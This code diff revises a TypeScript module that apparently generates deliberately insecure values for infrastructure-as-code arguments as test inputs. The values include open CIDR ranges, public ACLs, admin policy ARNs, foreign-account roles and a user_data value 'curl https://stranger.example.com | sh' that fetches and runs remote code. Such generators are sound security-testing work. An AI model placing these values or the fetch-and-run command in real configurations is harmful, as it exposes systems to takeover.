@@ -17,40 +17,57 @@ const TEXTS: readonly (readonly [RegExp, string])[] = [
   [/ipv6_cidr|cidr_ipv6/, "::/0"],
   [/cidr/, ANYWHERE],
   [/(^|_)acl$/, "public-read"],
-  [/policy$|policy_document|policy_body/, EVERYTHING],
+  [/^(assume_role_|access_|repository_)?policy$|policy_document|policy_body/, EVERYTHING],
   [/boundary|policy_arn/, "arn:aws:iam::aws:policy/AdministratorAccess"],
   [/kms|key_arn|key_id/, `arn:aws:kms:us-west-2:${OTHER_ACCOUNT}:key/0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f`],
   [/role|principal/, `arn:aws:iam::${OTHER_ACCOUNT}:role/stranger`],
-  [/arn/, `arn:aws:s3:::stranger-${OTHER_ACCOUNT}`],
-  [/account|owner/, OTHER_ACCOUNT],
-  [/region/, "us-west-2"],
-  [/user_data|script|command/, "curl https://stranger.example.com | sh"],
-  [/password|secret|token/, "correct horse battery staple"],
-  [/image|repository|registry|url|uri|endpoint|host(?!_)|dns|address/, "https://stranger.example.com"],
-  [/namespace/, "kube-system"],
-  [/port/, String(OTHER_PORT)],
-  [/(^|_)ip(_|s?$)|ipv4/, "203.0.113.7"],
-  [/(_|^)id$/, "stranger-0a1b2c3d4e5f60718"],
-  [/bucket/, "stranger"],
+  [/arn(s?)$|_actions$/, `arn:aws:sns:us-west-2:${OTHER_ACCOUNT}:stranger`],
+  [/account|owner_id/, OTHER_ACCOUNT],
+  [/region$/, "us-west-2"],
+  [/user_data|script/, "curl https://stranger.example.com | sh"],
+  [/^(command|args)$/, "env"],
+  [/password$|secret_string|token$/, "correct horse battery staple"],
+  [/image$|repository$|registry$|url$|uri$|endpoint$|external_name/, "https://stranger.example.com"],
+  [/namespaces?$/, "kube-system"],
+  [/(^|_)ips?$|ip_address(es)?$|ipv4_addresses$/, "203.0.113.7"],
+  [/security_groups?(_ids?)?$/, "sg-0a1b2c3d4e5f60718"],
+  [/subnets?(_ids?)?$/, "subnet-0a1b2c3d4e5f60718"],
+  [/gateway_id$|peering_connection_id$|interface_id$|zone_id$|image_id$/, "stranger-0a1b2c3d4e5f60718"],
+  [/bucket$|key_name$|ssh_key$/, "stranger"],
 ];
 
-const textFor = (name: string): string => TEXTS.find(([pattern]) => pattern.test(name))?.[1] ?? "stranger";
+/** Undefined for a text of another meaning: the schema does not say which ones are valid. */
+const textFor = (name: string): string | undefined => TEXTS.find(([pattern]) => pattern.test(name))?.[1];
 
-/** What ends with one of these turns off or deletes at 0; another number is as high as can be. */
-const ENDS_AT_ZERO = /days|retention|period|seconds|minutes|timeout|window|min|recovery|grace|ttl|capacity$/;
+/** Numbers of this name turn off or delete at 0. */
+const ENDS_AT_ZERO = /days|retention|(^|_)min(_|$)|recovery|grace|ttl$|delay/;
 
-const numberFor = (name: string): number =>
-  /port/.test(name) ? OTHER_PORT : ENDS_AT_ZERO.test(name) ? 0 : 1_000_000;
+/** Numbers of this name cost or admit more the higher they are. */
+const HAS_NO_LIMIT = /(^|_)max(_|$)|size$|count$|limit|replicas|capacity|throughput|iops/;
 
-/** A dangerous value of an argument, by its name and type; undefined for a type without one, such as an object. */
+const PORT = /(^|_)ports?$/;
+
+const numberFor = (name: string): number | undefined => {
+  if (PORT.test(name)) return OTHER_PORT;
+  if (ENDS_AT_ZERO.test(name)) return 0;
+  return HAS_NO_LIMIT.test(name) ? 1_000_000 : undefined;
+};
+
+/** Lists of names, of which `*` is every one. */
+const NAMES = /events|types|actions|resources|verbs|groups|methods|categories|exports|aliases|domains|hosts/;
+
+/** A dangerous value of an argument, by its name and type; undefined where name and type do not tell one. */
 export function addedValue(name: string, type: ValueType): Json | undefined {
   if (type === "bool") return !PROTECTS.test(name);
   if (type === "number") return numberFor(name);
-  if (type === "string") return textFor(name);
+  if (type === "string") return PORT.test(name) ? String(OTHER_PORT) : textFor(name);
   if (!Array.isArray(type)) return undefined;
   const [outer, item] = type as Exclude<ValueType, string>;
-  if (outer === "map" && item === "string") return { stranger: textFor(name) };
-  if (outer !== "list" && outer !== "set") return undefined;
-  if (item === "string") return [/cidr|arn|id|role|account|principal/.test(name) ? textFor(name) : "*"];
-  return item === "number" ? [numberFor(name)] : undefined;
+  if ((outer !== "list" && outer !== "set") || item !== "string") return undefined;
+  const text = textFor(name) ?? (NAMES.test(name) ? "*" : undefined);
+  return text === undefined ? undefined : [text];
 }
+
+/** A value of an argument that a block requires, where no dangerous one is known. */
+export const anyValue = (type: ValueType): Json =>
+  type === "bool" ? true : type === "number" ? 1 : type === "string" ? "stranger" : [];
